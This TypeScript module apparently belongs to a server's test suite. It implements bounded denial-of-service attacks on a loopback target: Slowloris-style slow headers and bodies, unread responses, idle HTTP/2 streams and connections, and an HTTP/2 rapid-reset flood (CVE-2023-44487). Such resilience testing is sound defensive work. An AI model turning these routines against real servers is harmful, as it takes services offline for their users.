/** Attacks in a bounded form, each against one front on loopback: what they open is given to the caller, who ends it. */
import type { Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { type FrontAddress, openSocket, RawHttp1Client } from '../support/raw-client.js';
import { RawHttp2Client } from '../support/raw-http2-client.js';

/** Starts it; resolves when all of it was sent. */
export type Attack = (target: FrontAddress, opened: Socket[]) => Promise<void>;

const CANCEL = 8;
/** Streams of one connection. */
const STREAMS = 100;

function fields(method: string, path: string): string[] {
  return [':method', method, ':scheme', 'https', ':authority', 'localhost', ':path', path];
}

async function eachHttp1(
  target: FrontAddress,
  opened: Socket[],
  count: number,
  text: string,
  reads = true,
): Promise<void> {
  for (let index = 0; index < count; index += 1) {
    const client = await RawHttp1Client.open(target);
    opened.push(client.socket);
    if (!reads) client.socket.pause();
    await client.send(text);
  }
}

async function eachHttp2(
  target: FrontAddress,
  opened: Socket[],
  count: number,
  send: (client: RawHttp2Client, stream: number) => void,
  window = 2 ** 30,
): Promise<void> {
  for (let index = 0; index < count; index += 1) {
    const client = await RawHttp2Client.open(target, [[4, window]]);
    opened.push(client.socket);
    for (let stream = 1; stream < STREAMS * 2; stream += 2) send(client, stream);
  }
}

/** Bodies of which a byte comes, over connections of HTTP/1.1. */
export const slowBodies =
  (count: number, framing: 'length' | 'chunked'): Attack =>
  (target, opened) => {
    const rest =
      framing === 'length' ? 'Content-Length: 1000\r\n\r\na' : 'Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n';
    return eachHttp1(target, opened, count, `POST /slow HTTP/1.1\r\nHost: localhost\r\n${rest}`);
  };

/** The same over HTTP/2, a hundred to a connection. */
export const slowStreams =
  (count: number): Attack =>
  (target, opened) =>
    eachHttp2(target, opened, count, (client, stream) => {
      client.headers(stream, [...fields('POST', '/slow'), 'content-length', '1000'], false);
      client.data(stream, 'a', false);
    });

/** Answers that nobody reads, eight to a connection. */
export const unreadAnswers =
  (count: number): Attack =>
  (target, opened) =>
    eachHttp1(target, opened, count, 'GET /big HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(8), false);

/** The same over HTTP/2, with a window of nothing. */
export const unreadStreams =
  (count: number): Attack =>
  (target, opened) =>
    eachHttp2(
      target,
      opened,
      count,
      (client, stream) => client.headers(stream, fields('GET', '/big'), true),
      0,
    );

/** Heads that never end. */
export const slowHeads =
  (count: number): Attack =>
  (target, opened) =>
    eachHttp1(target, opened, count, 'GET /slow HTTP/1.1\r\nHost: localhost\r\nX-A: b\r\n');

/** Requests whose bodies never begin. */
export const idleStreams =
  (count: number): Attack =>
  (target, opened) =>
    eachHttp2(target, opened, count, (client, stream) =>
      client.headers(stream, fields('POST', '/slow'), false),
    );

/** Connections that say nothing. */
export const idleConnections =
  (count: number): Attack =>
  async (target, opened) => {
    for (let index = 0; index < count; index += 1) opened.push(await openSocket(target, 'h2'));
  };

/** One attacker that begins requests, lets the app begin them too, cuts them, and connects again when it is thrown out. */
async function resetting(target: FrontAddress, opened: Socket[], requests: number): Promise<void> {
  let sent = 0;
  while (sent < requests) {
    const client = await RawHttp2Client.open(target);
    opened.push(client.socket);
    let stream = 1;
    while (sent < requests && client.goaway === undefined && !client.closed) {
      const first = stream;
      for (; stream < first + 40; stream += 2) client.headers(stream, fields('GET', '/never'), true);
      await pause(5);
      for (let cut = first; cut < stream; cut += 2) client.reset(cut, CANCEL);
      sent += 20;
      await pause(1);
    }
    client.socket.destroy();
  }
}

/** Rapid reset (CVE-2023-44487) by attackers that connect again, from so many addresses. */
export const rapidReset =
  (attackers: number, addresses: readonly string[], requests: number): Attack =>
  async (target, opened) => {
    const from = Array.from(
      { length: attackers },
      (_, index) => addresses[index % addresses.length] ?? '127.0.0.1',
    );
    await Promise.all(
      from.map((localAddress) =>
        resetting({ ...target, localAddress }, opened, Math.floor(requests / attackers)),
      ),
    );
  };
